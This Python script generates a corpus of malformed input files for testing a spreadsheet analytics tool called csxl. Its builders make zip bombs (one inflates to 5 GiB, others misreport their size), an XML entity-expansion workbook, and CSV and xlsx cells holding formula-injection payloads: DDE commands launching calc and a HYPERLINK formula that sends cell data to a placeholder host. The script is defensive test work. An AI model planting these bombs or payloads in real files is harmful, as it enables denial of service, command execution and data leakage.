"""The bad-input corpus: every kind of file a manager may hand csxl that is not a clean export.

Files are made by code, never edited by hand, so nothing binary is committed: the tests make
the corpus in a temporary folder once per session (`make_corpus`), and

    python tests/data/bad/make_corpus.py OUT_DIR

writes it to a folder to look at or to try by hand (`csxl kpi OUT_DIR/<file>`). Each case
is one file; `CASES` maps a case name to its file name, what it holds, and its builder.
What csxl must answer for each case is written in tests/test_bad_inputs.py.

Plan cases (`plan_*`) are plan workbooks made by `csxl new` with a small export pasted in,
then damaged the way a manager's edits damage them.
"""

from __future__ import annotations

import io
import re
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path

HEADER = ["工单号", "创建时间", "首次响应时间", "解决时间", "客服", "满意度", "处理时长(秒)"]
EXCEL_ROWS = 1_048_576


def _row(i: int, **changes) -> list[object]:
    created = datetime(2026, 3, 2, 9) + timedelta(minutes=17 * i)
    row = {
        "工单号": f"T{i:04d}",
        "创建时间": created.strftime("%Y-%m-%d %H:%M:%S"),
        "首次响应时间": (created + timedelta(seconds=40)).strftime("%Y-%m-%d %H:%M:%S"),
        "解决时间": (created + timedelta(minutes=9)).strftime("%Y-%m-%d %H:%M:%S"),
        "客服": ["张三", "李四", "王五"][i % 3],
        "满意度": str(5 - i % 2),
        "处理时长(秒)": str(300 + i),
    }
    row.update(changes)
    return [row[h] for h in HEADER]


GOOD = [_row(i) for i in range(1, 6)]


# ----------------------------------------------------------------------------- writers
def xlsx(
    path: Path,
    rows: list[list[object]],
    *,
    setup: Callable | None = None,
    text_only: bool = True,
) -> Path:
    """rows (the header first) on one sheet; strings stay strings even if they start with
    `=` (openpyxl would write them as formulas), unless text_only is False."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "工单明细"
    for values in rows:
        ws.append(values)
        if text_only:
            for cell in ws[ws.max_row]:
                if isinstance(cell.value, str) and cell.data_type == "f":
                    cell.data_type = "s"
    if setup is not None:
        setup(ws)
    wb.save(path)
    return path


def csv_text(rows: list[list[object]]) -> str:
    import csv

    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    for row in rows:
        w.writerow(["" if v is None else v for v in row])
    return buf.getvalue()


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="工单明细" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)


def _col(n: int) -> str:
    s = ""
    while n:
        n, r = divmod(n - 1, 26)
        s = chr(65 + r) + s
    return s


def _cells(r: int, values: list[object], first_col: int = 1) -> str:
    from xml.sax.saxutils import escape

    cells = "".join(
        f'<c r="{_col(first_col + i)}{r}" t="inlineStr"><is><t>{escape(str(v))}</t></is></c>'
        for i, v in enumerate(values)
        if v is not None
    )
    return f'<row r="{r}">{cells}</row>'


def raw_xlsx(path: Path, rows: dict[int, list[object]], dimension: str | None) -> Path:
    """A minimal package written by hand: sheet rows keyed by their row number, streamed,
    so a sheet that reaches row 1,048,576 costs a few hundred bytes."""
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    body = "".join(_cells(r, values) for r, values in sorted(rows.items()))
    sheet = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dim}<sheetData>{body}</sheetData></worksheet>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _CONTENT_TYPES)
        zf.writestr("_rels/.rels", _ROOT_RELS)
        zf.writestr("xl/workbook.xml", _WORKBOOK)
        zf.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        zf.writestr("xl/worksheets/sheet1.xml", sheet)
    return path


def zip_bomb(path: Path, inflated: int) -> Path:
    """A package whose sheet part inflates to `inflated` bytes (zeros), made in milliseconds:
    one deflate block sequence for 1 MiB of zeros, ended by a full flush (byte-aligned, no
    history), repeated, then an empty final block. The CRC is not computed (a reader that
    checks sizes first never gets to it)."""
    mib = 1 << 20
    z = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = z.compress(b"\0" * mib) + z.flush(zlib.Z_FULL_FLUSH)
    count = inflated // mib
    head = b"PK"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _CONTENT_TYPES)
        zf.writestr("_rels/.rels", _ROOT_RELS)
        zf.writestr("xl/workbook.xml", _WORKBOOK)
        zf.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
    data = bytearray(path.read_bytes())
    # Append the bomb part by hand: local header, data, then a rebuilt central directory.
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        infos = zf.infolist()
        cd_offset = zf.start_dir
    body = chunk * count + b"\x03\x00"  # an empty final fixed-Huffman block
    name = b"xl/worksheets/sheet1.xml"
    size = count * mib
    zip64 = size >= 0xFFFFFFFF
    import struct

    extra = struct.pack("<HHQQ", 1, 16, size, len(body)) if zip64 else b""
    local = struct.pack(
        "<4sHHHHHIIIHH",
        head + b"\x03\x04",
        45 if zip64 else 20,
        0,
        8,
        0,
        0x21,
        0,
        0xFFFFFFFF if zip64 else len(body),
        0xFFFFFFFF if zip64 else size,
        len(name),
        len(extra),
    )
    out = bytearray(data[:cd_offset])
    offset = len(out)
    out += local + name + extra + body
    central = bytearray()
    for info in infos:
        central += _central(info.filename.encode(), info, info.header_offset)
    cextra = extra
    central += struct.pack(
        "<4sHHHHHHIIIHHHHHII",
        head + b"\x01\x02",
        45 if zip64 else 20,
        45 if zip64 else 20,
        0,
        8,
        0,
        0x21,
        0,
        0xFFFFFFFF if zip64 else len(body),
        0xFFFFFFFF if zip64 else size,
        len(name),
        len(cextra) if zip64 else 0,
        0,
        0,
        0,
        0,
        offset,
    )
    central += name + (cextra if zip64 else b"")
    cd_start = len(out)
    out += central
    n = len(infos) + 1
    out += struct.pack("<4sHHHHIIH", head + b"\x05\x06", 0, 0, n, n, len(central), cd_start, 0)
    path.write_bytes(bytes(out))
    return path


def lying_bomb(path: Path, inflated: int, declared: int) -> Path:
    """A package whose sheet is valid XML (the same ticket row again and again) inflating to
    about `inflated` bytes, while its zip entry declares `declared`: a check of the declared
    sizes alone passes it, and calamine reads on past the declared end."""
    import struct

    head = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns='
        '"http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + _cells(1, HEADER)
    ).encode()
    unit = _cells(2, GOOD[0]).encode() * 4000
    z = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = z.compress(head) + z.flush(zlib.Z_FULL_FLUSH)
    chunk = z.compress(unit) + z.flush(zlib.Z_FULL_FLUSH)
    body = first + chunk * max(1, inflated // len(unit)) + z.flush(zlib.Z_FINISH)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", _CONTENT_TYPES)
        zf.writestr("_rels/.rels", _ROOT_RELS)
        zf.writestr("xl/workbook.xml", _WORKBOOK)
        zf.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
    data = path.read_bytes()
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        infos, cd_offset = zf.infolist(), zf.start_dir
    name = b"xl/worksheets/sheet1.xml"
    sizes = (0, len(body), declared)  # crc, compressed, declared
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, *sizes, len(name), 0)
    out = bytearray(data[:cd_offset])
    offset = len(out)
    out += local + name + body
    central = b"".join(_central(i.filename.encode(), i, i.header_offset) for i in infos)
    central += struct.pack(
        "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, *sizes, len(name),
        0, 0, 0, 0, 0, offset,
    ) + name  # fmt: skip
    start = len(out)
    out += central
    n = len(infos) + 1
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, len(central), start, 0)
    path.write_bytes(bytes(out))
    return path


def _central(name: bytes, info: zipfile.ZipInfo, offset: int) -> bytes:
    import struct

    return (
        struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            20,
            20,
            info.flag_bits,
            info.compress_type,
            0,
            0x21,
            info.CRC,
            info.compress_size,
            info.file_size,
            len(name),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + name
    )


def ole(streams: dict[str, bytes]) -> bytes:
    """A compound file (what .xls and encrypted workbooks are), by csxl's own CFB writer."""
    from csxl.excel.vba_project import write_cfb

    return write_cfb(streams)


# BIFF8: a BOF record (workbook globals) and an EOF record: the start of every .xls.
BIFF8 = b"\x09\x08\x10\x00" + b"\x00\x06\x05\x00\xbb\x0d\xcc\x07\x00\x00\x00\x00\x06\x00\x00\x00"
BIFF8 += b"\x0a\x00\x00\x00"


def encrypted(path: Path) -> Path:
    """A password-protected .xlsx (password 'csxl'): msoffcrypto-tool's agile encryption
    of a real workbook, or, without it, the same container with placeholder streams."""
    plain = xlsx(path.with_name(path.stem + ".plain.xlsx"), [HEADER, *GOOD])
    try:
        from msoffcrypto.format.ooxml import OOXMLFile
    except ImportError:
        path.write_bytes(ole({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"x"}))
    else:
        out = io.BytesIO()
        with plain.open("rb") as f:
            OOXMLFile(f).encrypt("csxl", out)
        path.write_bytes(out.getvalue())
    plain.unlink()
    return path


# ----------------------------------------------------------------------------- plan workbooks
_PLANS: dict[str, bytes] = {}


def plan(path: Path, rows: list[list[object]] | None = None) -> Path:
    """`csxl new` + a small export pasted into Data (through the port, like `csxl batch`)."""
    key = repr(rows)
    if key not in _PLANS:
        _PLANS[key] = _plan_bytes(rows)
    path.write_bytes(_PLANS[key])
    return path


def _plan_bytes(rows: list[list[object]] | None) -> bytes:
    import tempfile

    import pandas as pd

    from csxl.workbook.book import PlanInputs
    from csxl.workbook.builder import new_plan
    from csxl.workbook.data_sheet import paste
    from csxl.workbook.port import PackageBook

    rows = rows or [HEADER, *GOOD]
    with tempfile.TemporaryDirectory(prefix="csxl-corpus-") as tmp:
        work = Path(tmp) / "plan.xlsx"
        new_plan(work, PlanInputs(lang="zh", team="售后一组", year=2026))
        book = PackageBook(work)
        paste(book, pd.DataFrame(rows[1:], columns=rows[0]))
        book.commit()
        return work.read_bytes()


def edit_part(path: Path, part: str, change: Callable[[bytes], bytes]) -> Path:
    """Rewrite one part of a package (every other part copied as it is)."""
    with zipfile.ZipFile(path) as zin:
        files = [(i, zin.read(i.filename)) for i in zin.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for info, data in files:
            zout.writestr(info, change(data) if info.filename == part else data)
    return path


def set_settings_cell(path: Path, row: int, value: str) -> Path:
    """Write a Settings value cell (column B) through csxl's own sheet patcher."""
    from csxl.workbook import layout
    from csxl.workbook.package import sheet_parts
    from csxl.workbook.sheetxml import patch

    with zipfile.ZipFile(path) as zf:
        parts = sheet_parts(
            {n: zf.read(n) for n in ("xl/workbook.xml", "xl/_rels/workbook.xml.rels")}
        )
    part = parts[layout.title("Settings", "zh")]
    return edit_part(path, part, lambda xml: patch(xml, {(row, 2): value}))


def rename_sheet(path: Path, old: str, new: str, anchors: bool = True) -> Path:
    """Rename a sheet as Excel, LibreOffice and WPS do: the tab and every defined name's
    reference to it; `anchors=False` is a plan made before csxl's sheet anchors."""

    def rename(xml: bytes) -> bytes:
        xml = xml.replace(f'name="{old}"'.encode(), f'name="{new}"'.encode())
        if not anchors:
            return re.sub(rb'<definedName name="csxl_Sheet_\w+"[^>]*>[^<]*</definedName>', b"", xml)
        return xml.replace(f"'{old}'!".encode(), f"'{new}'!".encode())

    return edit_part(path, "xl/workbook.xml", rename)


def delete_sheet(path: Path, title: str) -> Path:
    """Delete a sheet's entry as an app does: references to it become #REF!."""

    def drop(xml: bytes) -> bytes:
        xml = re.sub(rb'<sheet [^>]*name="' + title.encode() + rb'"[^>]*/>', b"", xml)
        return re.sub(
            rb"'" + title.encode() + rb"'!\$?[A-Z]+\$?\d+(:\$?[A-Z]+\$?\d+)?", b"#REF!", xml
        )

    return edit_part(path, "xl/workbook.xml", drop)


# ----------------------------------------------------------------------------- the cases
@dataclass(frozen=True)
class Case:
    file: str
    holds: str
    build: Callable[[Path], Path]


def _merged_header(ws) -> None:
    ws.insert_rows(1)
    ws["A1"] = "工单导出 2026年3月"
    ws.merge_cells("A1:G1")
    ws.insert_rows(2)
    ws["B2"] = "时间"
    ws.merge_cells("B2:D2")


def _hidden_and_filtered(ws) -> None:
    ws.auto_filter.ref = f"A1:G{ws.max_row}"
    ws.auto_filter.add_filter_column(4, ["张三"])
    for r in range(2, ws.max_row + 1):
        if ws.cell(r, 5).value != "张三":
            ws.row_dimensions[r].hidden = True
    ws.column_dimensions["C"].hidden = True


def _error_cells(ws) -> None:
    ws["B3"] = "#N/A"  # openpyxl writes an error cell (t="e") for an error code
    ws["G4"] = "#DIV/0!"
    ws["F5"] = "#VALUE!"


def _formula_cells(ws) -> None:
    ws["E3"] = "=1+1"  # a real formula without a cached value
    ws["E4"] = "=cmd|' /C calc'!A0"  # a DDE formula: never evaluated


INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"点击")',
    "\t=1+1",
]


def _injection_rows() -> list[list[object]]:
    rows = [HEADER]
    for i, text in enumerate(INJECTIONS, start=1):
        rows.append(_row(i, 客服=text))
    rows.append(_row(10, 工单号="=1+2"))  # an id that looks like a formula
    rows.append(_row(11, 满意度="=5"))  # a score that is a formula's text: rejected
    return rows


def _long_rows() -> list[list[object]]:
    return [HEADER, *GOOD, _row(8, 客服="张" * 32_000), _row(9, 工单号="X" * 5_000)]


CONTROL = "".join(chr(c) for c in (1, 2, 7, 8, 11, 12, 27, 31, 127)) + "\u200b\u202e\ufeff"


def _control_rows() -> list[list[object]]:
    return [
        HEADER,
        *GOOD,
        _row(8, 客服=f"李{CONTROL}四"),
        _row(9, 工单号=f"T{CONTROL}9"),
        _row(10, 创建时间=f"2026-03-05{CONTROL}10:00:00"),
    ]


def _date_rows() -> list[list[object]]:
    return [
        HEADER,
        *GOOD,
        _row(11, 创建时间="1899-12-31 10:00:00", 首次响应时间="", 解决时间=""),
        _row(12, 创建时间="1850-06-01 10:00:00", 首次响应时间="", 解决时间=""),
        _row(13, 创建时间="2099-01-01 10:00:00", 首次响应时间="", 解决时间=""),
        _row(14, 创建时间="9999-12-31 23:59:59", 首次响应时间="", 解决时间=""),
        _row(15, 解决时间="2100-01-01 00:00:00"),
    ]


def _backwards_rows() -> list[list[object]]:
    return [
        HEADER,
        *GOOD,
        _row(11, 首次响应时间="2026-03-01 08:00:00"),
        _row(12, 解决时间="2026-03-01 08:00:00"),
    ]


def _duration_rows() -> list[list[object]]:
    return [
        HEADER,
        *GOOD,
        _row(11, **{"处理时长(秒)": "-30"}),
        _row(12, **{"处理时长(秒)": "1e400"}),
        _row(13, **{"处理时长(秒)": "99999999999999"}),
        _row(14, **{"处理时长(秒)": "9" * 400}),
    ]


def _text_in_numbers_rows() -> list[list[object]]:
    return [
        HEADER,
        *GOOD,
        _row(11, **{"处理时长(秒)": "三百秒"}),
        _row(12, 满意度="很好"),
        _row(13, **{"处理时长(秒)": "１２０"}),  # full-width digits: a number
        _row(14, 满意度="NaN"),
    ]


CASES: dict[str, Case] = {}


def case(name: str, file: str, holds: str):
    def register(build: Callable[[Path], Path]):
        CASES[name] = Case(file, holds, build)
        return build

    return register


@case("not_a_zip", "not_a_zip.xlsx", "random bytes with NULs named .xlsx")
def _(p):
    p.write_bytes(bytes(range(256)) * 40)
    return p


@case("html_as_xls", "web_export.xls", "an HTML table saved with an .xls name (web exports)")
def _(p):
    p.write_text(
        "<html><head><meta charset='utf-8'></head><body><table>"
        + "".join("<tr>" + "".join(f"<td>{v}</td>" for v in r) + "</tr>" for r in [HEADER, *GOOD])
        + "</table></body></html>",
        encoding="utf-8",
    )
    return p


@case("truncated_zip", "truncated.xlsx", "the first half of a real .xlsx")
def _(p):
    whole = xlsx(p, [HEADER, *GOOD]).read_bytes()
    p.write_bytes(whole[: len(whole) // 2])
    return p


@case("xls_biff", "old.xls", "an Excel 97-2003 (BIFF8) workbook")
def _(p):
    p.write_bytes(ole({"Workbook": BIFF8}))
    return p


@case("xls_renamed", "old_renamed.xlsx", "the same .xls renamed to .xlsx")
def _(p):
    p.write_bytes(ole({"Workbook": BIFF8}))
    return p


@case("encrypted", "secret.xlsx", "a password-protected .xlsx")
def _(p):
    return encrypted(p)


@case("zip_bomb", "bomb.xlsx", "a sheet part that inflates to 5 GiB (about 5 MB on disk)")
def _(p):
    return zip_bomb(p, 5 << 30)


@case("zip_bomb_lying", "bomb_lying.xlsx", "a sheet declaring 4 KB that inflates to 200 MB")
def _(p):
    return lying_bomb(p, 200 << 20, 4096)


@case(
    "zip_bomb_lying_plausibly",
    "bomb_plausible.xlsx",
    "a sheet declaring three times its compressed size that inflates to 200 MB",
)
def _(p):
    path = lying_bomb(p, 200 << 20, 1)
    with zipfile.ZipFile(path) as zf:
        compressed = zf.getinfo("xl/worksheets/sheet1.xml").compress_size
    return lying_bomb(p, 200 << 20, 3 * compressed)


@case("rows_1048576", "full_sheet.xlsx", "a sheet whose used range reaches row 1,048,576")
def _(p):
    rows = {1: HEADER, 2: GOOD[0], 3: GOOD[1], EXCEL_ROWS: _row(99)}
    return raw_xlsx(p, rows, f"A1:G{EXCEL_ROWS}")


@case("rows_1048576_no_dimension", "full_sheet_nodim.xlsx", "the same without <dimension>")
def _(p):
    rows = {1: HEADER, 2: GOOD[0], 3: GOOD[1], EXCEL_ROWS: _row(99)}
    return raw_xlsx(p, rows, None)


@case("huge_range", "huge_range.xlsx", "a dimension of A1:XFD1048576 (17 billion cells)")
def _(p):
    return raw_xlsx(p, {1: HEADER, 2: GOOD[0]}, "A1:XFD1048576")


@case("far_cell", "far_cell.xlsx", "one stray cell at XFD100000, no <dimension>")
def _(p):
    path = raw_xlsx(p, {1: HEADER, 2: GOOD[0]}, None)
    stray = '<row r="100000"><c r="XFD100000" t="inlineStr"><is><t>x</t></is></c></row>'
    return edit_part(
        path,
        "xl/worksheets/sheet1.xml",
        lambda xml: xml.replace(b"</sheetData>", stray.encode() + b"</sheetData>"),
    )


@case("xml_entities", "entities.xlsx", "a workbook.xml with a DOCTYPE and entity expansion")
def _(p):
    path = raw_xlsx(p, {1: HEADER, 2: GOOD[0]}, "A1:G2")
    dtd = (
        b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE workbook [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    )
    return edit_part(
        path,
        "xl/workbook.xml",
        lambda xml: dtd + xml.split(b"?>", 1)[1].replace("工单明细".encode(), b"&c;"),
    )


@case("csv_too_big", "huge.csv", "a 1.1 GiB CSV (sparse: it takes no disk space)")
def _(p):
    with p.open("wb") as f:
        f.write(csv_text([HEADER, *GOOD]).encode())
        f.truncate(1100 * 1024**2)
    return p


@case(
    "stray_far_cell_in_plan",
    "plan_far_cell.xlsx",
    "a plan with a stray cell at XFD1048576 on Goals",
)
def _(p):
    from csxl.workbook import layout

    path = plan(p)
    with zipfile.ZipFile(path) as zf:
        names = ("xl/workbook.xml", "xl/_rels/workbook.xml.rels")
        from csxl.workbook.package import sheet_parts

        part = sheet_parts({n: zf.read(n) for n in names})[layout.title("Goals", "zh")]
    stray = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return edit_part(
        path, part, lambda xml: xml.replace(b"</sheetData>", stray.encode() + b"</sheetData>")
    )


@case("empty_workbook", "empty.xlsx", "a workbook with one blank sheet")
def _(p):
    return xlsx(p, [])


@case("empty_file", "empty.csv", "a zero-byte file")
def _(p):
    p.write_bytes(b"")
    return p


@case("header_only", "header_only.xlsx", "the header row and no data")
def _(p):
    return xlsx(p, [HEADER])


@case("merged_header", "merged_header.xlsx", "a merged title row and a merged group heading")
def _(p):
    return xlsx(p, [HEADER, *GOOD], setup=_merged_header)


@case("hidden_filtered", "hidden_filtered.xlsx", "hidden rows, a hidden column, an autofilter")
def _(p):
    return xlsx(p, [HEADER, *GOOD], setup=_hidden_and_filtered)


@case("error_cells", "error_cells.xlsx", "#N/A, #DIV/0! and #VALUE! cells in data columns")
def _(p):
    return xlsx(p, [HEADER, *GOOD], setup=_error_cells)


@case("formula_cells", "formula_cells.xlsx", "formulas (one DDE) in data cells, no cached value")
def _(p):
    return xlsx(p, [HEADER, *GOOD], setup=_formula_cells, text_only=False)


@case("dates_out_of_range", "dates.xlsx", "created before 1900 and in the future")
def _(p):
    return xlsx(p, _date_rows())


@case("time_backwards", "backwards.xlsx", "first response and resolution before creation")
def _(p):
    return xlsx(p, _backwards_rows())


@case("bad_durations", "durations.xlsx", "negative, infinite and absurd durations")
def _(p):
    return xlsx(p, _duration_rows())


@case("text_in_numbers", "text_numbers.xlsx", "text in the duration and score columns")
def _(p):
    return xlsx(p, _text_in_numbers_rows())


@case("gbk_as_txt", "export.txt", "a GBK CSV named .txt")
def _(p):
    p.write_bytes(csv_text([HEADER, *GOOD]).encode("gbk"))
    return p


@case("gbk_as_xlsx", "export_gbk.xlsx", "a GBK CSV named .xlsx")
def _(p):
    p.write_bytes(csv_text([HEADER, *GOOD]).encode("gbk"))
    return p


@case("formula_injection", "injection.xlsx", "=cmd|, +, -, @ and HYPERLINK text in cells")
def _(p):
    return xlsx(p, _injection_rows())


@case("formula_injection_csv", "injection.csv", "the same strings in a CSV")
def _(p):
    p.write_text(csv_text(_injection_rows()), encoding="utf-8")
    return p


@case("long_strings", "long.xlsx", "a 32,000-character agent name and a 5,000-character id")
def _(p):
    return xlsx(p, _long_rows())


@case("markup_names", "markup.csv", "agent names that look like terminal markup: [/b], [red]")
def _(p):
    rows = [HEADER, _row(1, 客服="[/b]"), _row(2, 客服="[bold red]红[/]"), _row(3, 客服="\\[x")]
    p.write_text(csv_text(rows), encoding="utf-8")
    return p


@case("control_chars", "control.csv", "C0 controls, DEL, zero-width and bidi characters")
def _(p):
    p.write_text(csv_text(_control_rows()), encoding="utf-8")
    return p


@case("plan_goals_renamed", "plan_goals_renamed.xlsx", "a plan whose 目标 sheet was renamed")
def _(p):
    return rename_sheet(plan(p), "目标", "目标(旧)")


@case(
    "plan_errors_renamed",
    "plan_errors_renamed.xlsx",
    "a plan made before the sheet anchors whose 错误 sheet was renamed",
)
def _(p):
    return rename_sheet(plan(p), "错误", "错误行", anchors=False)


@case("plan_trend_deleted", "plan_trend_deleted.xlsx", "a plan whose 趋势 sheet was deleted")
def _(p):
    return delete_sheet(plan(p), "趋势")


@case("plan_old_template", "plan_old_template.xlsx", "a plan made by template version 0.9")
def _(p):
    from csxl.workbook.layout import Settings

    return set_settings_cell(plan(p), Settings.ROW_VERSION, "0.9")


@case("plan_injection", "plan_injection.xlsx", "a plan with formula-like text in its Data")
def _(p):
    return plan(p, _injection_rows())


@case(
    "plan_control_chars",
    "plan_control_chars.xlsx",
    "a plan whose Data holds control characters (as Excel stores them: _x0001_) and ESC",
)
def _(p):
    rows = [
        HEADER,
        *GOOD,
        _row(8, 客服="李_x0001_四"),
        _row(9, 客服="王\x1b[31m五\u202e"),
        _row(10, 创建时间="2026-03-05_x0007_10:00:00"),
    ]
    return plan(p, rows)


@case("plan_empty_data", "plan_empty_data.xlsx", "a plan with nothing pasted below the header")
def _(p):
    return plan(p, [HEADER])


def make_corpus(folder: Path, names: list[str] | None = None) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    return {n: CASES[n].build(folder / CASES[n].file) for n in (names or CASES)}


if __name__ == "__main__":
    out = Path(sys.argv[1] if len(sys.argv) > 1 else "bad-corpus")
    for name, path in make_corpus(out).items():
        print(f"{name:28} {path}  ({CASES[name].holds})")
